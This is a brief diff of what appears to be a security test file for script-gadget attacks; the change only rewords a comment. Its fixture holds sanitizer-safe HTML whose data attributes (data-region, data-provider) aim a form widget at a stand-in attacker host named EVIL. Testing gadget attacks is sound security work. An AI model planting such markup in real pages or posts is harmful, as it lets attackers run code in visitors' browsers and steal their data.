@@ -10,7 +10,7 @@ import { EVIL, makeGadgets, makePayloads } from './payloads';
 const COUNT = Math.ceil(effort.payloads / 10);
 const SUBMISSION = /^\/submissions\//;
 
-/** What authors may write whose markup a site cleans: no script, frame or form, but classes, ids and data attributes. */
+/** Markup of authors whose posts a site cleans: no script, frame or form, but classes, ids and data attributes. */
 const CLEANED = `<div data-mountkit="form" data-portal-id="${PORTAL}" data-form-id="${EMAIL_FORM}" data-region=".${EVIL}/"></div>
   <div data-mountkit="form" data-portal-id="${PORTAL}" data-form-id="${EMAIL_FORM}" data-provider="http://${EVIL}"></div>
   <div data-mountkit="form" data-portal-id="${PORTAL}" data-form-id="${seededForm(23)}"
